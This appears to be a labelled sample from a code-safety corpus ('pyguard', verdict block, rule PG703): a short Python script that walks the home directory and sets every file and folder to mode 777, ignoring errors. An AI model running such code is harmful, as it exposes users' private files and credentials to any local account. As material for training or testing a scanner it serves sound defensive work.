# pyguard-corpus: verdict=block category=filesystem rules=PG703
# what: makes every file under the home directory world-writable
import os

home = os.path.expanduser("~")
for root, dirs, files in os.walk(home):
    for name in dirs + files:
        try:
            os.chmod(os.path.join(root, name), 0o777)
        except OSError:
            pass
